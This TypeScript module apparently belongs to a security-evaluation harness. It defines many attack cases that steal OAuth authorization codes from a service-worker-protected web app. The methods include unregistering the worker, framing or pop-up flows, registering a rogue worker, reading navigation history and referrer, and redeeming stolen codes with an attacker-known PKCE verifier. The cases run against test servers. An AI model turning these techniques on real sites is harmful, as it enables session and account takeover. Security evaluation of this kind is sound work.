import { createHash } from 'node:crypto';
import type { Attack } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { PLAIN_PAGE } from '../site.ts';
import { until } from '../until.ts';
import { stealCode, WAYS_TO_A_CODE, type WayToACode } from './own-flow.ts';
import { withRogue } from './rogue.ts';

/** The attacker's own code verifier. */
const VERIFIER = 'a-verifier-that-the-attacker-has-made-up-and-knows';

/** An authorization request of the attacker's, which asks for no page where the user is signed in at the server. */
function authorizeUrl({ servers, site }: Scene, parameters: Readonly<Record<string, string>> = {}): string {
  const { origin, clientId } = servers.authorizationServer;
  const query = new URLSearchParams({
    client_id: clientId,
    redirect_uri: site.redirectUri,
    response_type: 'code',
    scope: 'openid',
    prompt: 'none',
    state: 'attacker',
    code_challenge: createHash('sha256').update(VERIFIER).digest('base64url'),
    code_challenge_method: 'S256',
    ...parameters,
  });
  return `${origin}/auth?${query}`;
}

/** Script in the page ends the worker, and opens a page that no worker controls. */
async function endWorker({ tab, site }: Scene): Promise<void> {
  await tab.evaluate(async () => {
    for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister();
  });
  await tab.goto(site.origin + PLAIN_PAGE);
}

/** The user clicks, until script that waits for it has seen it. */
async function clickUntilSeen({ tab }: Scene): Promise<void> {
  await until('the page has seen a click', async () => {
    await tab.click();
    return tab.evaluate(() => document.documentElement.dataset['clicked'] === 'yes');
  });
}

/** How the response of a flow comes, other than in the query. */
const MODES = { fragment: 'in the fragment', 'query.jwt': 'in a JWT', web_message: 'in a message' } as const;
type Mode = keyof typeof MODES;

async function stealOwnCode(scene: Scene, way: WayToACode, mode?: Mode): Promise<unknown> {
  const opensWindows = way.includes('pop-up');
  const url = authorizeUrl(scene, mode && { response_mode: mode });
  const stolen = scene.tab.evaluate(stealCode, { way, url, opensWindows, patienceMs: scene.patienceMs });
  await (opensWindows ? Promise.race([stolen, clickUntilSeen(scene)]) : undefined);
  return stolen;
}

function inMode(mode?: Mode): string {
  return mode ? `, with the response ${MODES[mode]}` : '';
}

const NO_REPORT = { firefox: 'reports no address that a frame was redirected to' } as const;

/** With the worker gone: the headers have to hold. */
function withoutWorker(id: string, way: WayToACode, mode?: Mode): Attack {
  return {
    id,
    title: `unregisters the worker and runs a flow in ${way}${inMode(mode)}`,
    scenario: '5.1.3',
    naive: 'open-server',
    tokenward: 'shipped',
    // In a profile whose worker was unregistered before, WebKit shows script no flow in a frame that it has written itself.
    ruins: 'profiles',
    ...(way === 'a frame and the report of an injected policy' && { notIn: NO_REPORT }),
    act: async (scene) => {
      await endWorker(scene);
      return { seen: await stealOwnCode(scene, way, mode) };
    },
  };
}

/** With the worker there: it has to hold without any header. */
function pastWorker(id: string, way: WayToACode, mode?: Mode): Attack {
  return {
    id,
    title: `runs a flow in ${way} while the worker is there${inMode(mode)}`,
    scenario: '5.1.3',
    naive: 'page',
    tokenward: 'no-headers',
    act: async (scene) => {
      await scene.tab.goto(scene.site.origin + PLAIN_PAGE);
      return { seen: await stealOwnCode(scene, way, mode) };
    },
  };
}

/** With the worker gone, and no other window that could be framed, cut off or sandboxed. */
function inOwnTab(id: string, title: string, parameters?: Readonly<Record<string, string>>): Attack {
  return {
    id,
    title,
    scenario: '5.1.3',
    naive: 'open-server',
    tokenward: 'shipped',
    ruins: 'sessions',
    notIn: { webkit: 'does not let script list the entries of the history' },
    act: async (scene) => {
      await endWorker(scene);
      await scene.tab.goto(authorizeUrl(scene, parameters));
      await scene.tab.goto(scene.site.origin + PLAIN_PAGE);
      return {
        seen: await scene.tab.evaluate(() => {
          const navigation: unknown = Reflect.get(window, 'navigation');
          const entries: unknown = Reflect.get(Object(navigation), 'entries');
          const list: unknown = typeof entries === 'function' ? entries.call(navigation) : undefined;
          const urls = Array.isArray(list) ? list.map((entry) => String(Reflect.get(Object(entry), 'url'))) : [];
          return [...urls, document.referrer];
        }),
      };
    },
  };
}

export const CODE_ATTACKS: readonly Attack[] = [
  ...WAYS_TO_A_CODE.map((way, index) => withoutWorker(`C${String(index + 1).padStart(2, '0')}`, way)),
  withoutWorker('C20', 'a frame', 'fragment'),
  withoutWorker('C21', 'an object', 'fragment'),
  withoutWorker('C22', 'a pop-up', 'fragment'),
  withoutWorker('C23', 'a frame', 'query.jwt'),
  withoutWorker('C24', 'a frame', 'web_message'),
  withoutWorker('C25', 'a pop-up', 'web_message'),
  pastWorker('C31', 'a frame'),
  pastWorker('C32', 'a frame in a srcdoc frame'),
  pastWorker('C33', 'a frame in an about:blank frame'),
  pastWorker('C34', 'a frame in a blob frame'),
  pastWorker('C35', 'a pop-up'),
  pastWorker('C36', 'a frame', 'fragment'),
  pastWorker('C37', 'a frame', 'query.jwt'),
  {
    // Before the worker is asked: it takes a policy of the page's own that lets no frame go to the authorization server.
    ...pastWorker('C38', 'a frame and the report of an injected policy'),
    tokenward: 'shipped',
    notIn: NO_REPORT,
  },
  inOwnTab(
    'C41',
    'runs a flow in its own tab, and looks for the code in history, referrer and entries of the navigation',
  ),
  inOwnTab(
    'C49',
    'runs a flow in its own tab, with the response in the fragment, and looks for it in the same places',
    {
      response_mode: 'fragment',
    },
  ),
  {
    id: 'C42',
    title: 'registers a worker of its own at the callback, and runs a flow that comes back to it',
    scenario: '5.1.3',
    naive: 'open-server',
    tokenward: 'shipped',
    ruins: 'profiles',
    act: async (scene) => ({
      seen: await withRogue(scene, { scope: '/auth/' }, () => scene.tab.goto(authorizeUrl(scene))),
    }),
  },
  {
    id: 'C43',
    title: 'unregisters the worker, registers its own in its place, and runs a flow',
    scenario: '5.1.3',
    naive: 'open-server',
    tokenward: 'shipped',
    ruins: 'profiles',
    act: async (scene) => {
      await endWorker(scene);
      return { seen: await withRogue(scene, { scope: '/' }, () => scene.tab.goto(authorizeUrl(scene))) };
    },
  },
  {
    id: 'C44',
    title: 'exchanges a code that it has got somehow, with its own verifier',
    scenario: '5.1.3',
    naive: 'open-server',
    tokenward: 'shipped',
    ruins: 'sessions',
    act: async (scene) => {
      const { issued, origin, clientId } = scene.servers.authorizationServer;
      await endWorker(scene);
      const known = new Set(issued.codes);
      await scene.tab.goto(authorizeUrl(scene));
      await scene.tab.goto(scene.site.origin + PLAIN_PAGE);
      const code = [...issued.codes].find((other) => !known.has(other)) ?? '';
      scene.own(code);
      return {
        seen: await scene.tab.evaluate(
          async ({ endpoint, form }) => {
            const body = new URLSearchParams(form);
            return await fetch(endpoint, { method: 'POST', body }).then(
              (answer) => answer.text(),
              () => 'refused',
            );
          },
          {
            endpoint: `${origin}/token`,
            form: {
              grant_type: 'authorization_code',
              client_id: clientId,
              redirect_uri: scene.site.redirectUri,
              code,
              code_verifier: VERIFIER,
            },
          },
        ),
      };
    },
  },
  {
    id: 'C45',
    title: 'opens the app’s own sign-in in a pop-up and watches its address',
    scenario: '5.1.2',
    naive: 'page',
    tokenward: 'no-headers',
    act: async (scene) => {
      const { tab, site } = scene;
      const stolen = tab.evaluate(
        async ({ address, patienceMs }) => {
          const seen = new Set<string>();
          await new Promise<void>((resolve) => document.addEventListener('click', () => resolve(), { once: true }));
          document.documentElement.dataset['clicked'] = 'yes';
          const opened = window.open(address, '_blank', 'popup');
          const endsAtMs = Date.now() + patienceMs;
          while (Date.now() < endsAtMs && ![...seen].some((url) => /[?&#]code=/.test(url))) {
            try {
              seen.add(opened?.location.href ?? '');
              for (const { name } of opened?.performance.getEntries() ?? []) seen.add(name);
            } catch {
              // It is at the authorization server.
            }
            await new Promise((resolve) => setTimeout(resolve, 1));
          }
          opened?.close();
          return [...seen];
        },
        { address: site.name === 'page' ? '/naive/app?login' : '/auth/login', patienceMs: scene.patienceMs },
      );
      await Promise.race([stolen, clickUntilSeen(scene)]);
      return { seen: await stolen };
    },
  },
];
